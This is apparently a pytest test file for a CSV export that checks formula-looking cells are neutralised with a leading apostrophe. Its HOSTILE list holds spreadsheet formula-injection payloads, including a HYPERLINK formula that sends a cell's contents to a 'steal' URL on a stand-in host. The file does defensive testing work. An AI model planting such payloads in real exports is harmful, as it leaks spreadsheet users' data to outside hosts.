"""CSV exports are safe to open in a spreadsheet: no writer's text runs as a formula."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import pytest
from kernel.text import spreadsheet_safe
from share_snippets.export import write_all

HOSTILE = [
    '=HYPERLINK("https://example.org/steal?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",  # full-width equals sign: spreadsheets read it as `=`
]


@pytest.mark.parametrize("cell", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_made_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize(
    ("value", "written"),
    [("-365", "-365"), (-365, "-365"), (2.5, "2.5"), ("Call 999", "Call 999"), (None, "")],
)
def test_numbers_and_ordinary_text_stay_as_they_are(value, written):
    assert spreadsheet_safe(value) == written


def test_the_share_exports_neutralise_every_cell(tmp_path):
    records = [
        {"slug": f"a{n}", "title": cell, "url": f"https://www.sharewell.org.uk/a{n}/",
         "image_url": None, "published": "", "modified": "",
         "networks": {"x": {"text": cell, "url": cell, "share_link": cell, "length": -3,
                            "limit": 280}}}
        for n, cell in enumerate(HOSTILE)
    ]  # fmt: skip
    start = datetime(2026, 12, 1, 9, 0, tzinfo=UTC)
    write_all(tmp_path, {"version": 1, "articles": iter(records)}, count=len(records),
              start=start, spacing_minutes=10, scheduler_networks=["x"])  # fmt: skip
    with (tmp_path / "snippets.csv").open(encoding="utf-8", newline="") as handle:
        read = list(csv.DictReader(handle))
    for column in ("article_title", "text", "url", "share_link"):
        assert [row[column] for row in read] == ["'" + cell for cell in HOSTILE]
    assert {row["length"] for row in read} == {"-3"}
    with (tmp_path / "schedule-x.csv").open(encoding="utf-8", newline="") as handle:
        scheduled = list(csv.DictReader(handle))
    assert [row["message_text"] for row in scheduled] == ["'" + cell for cell in HOSTILE]
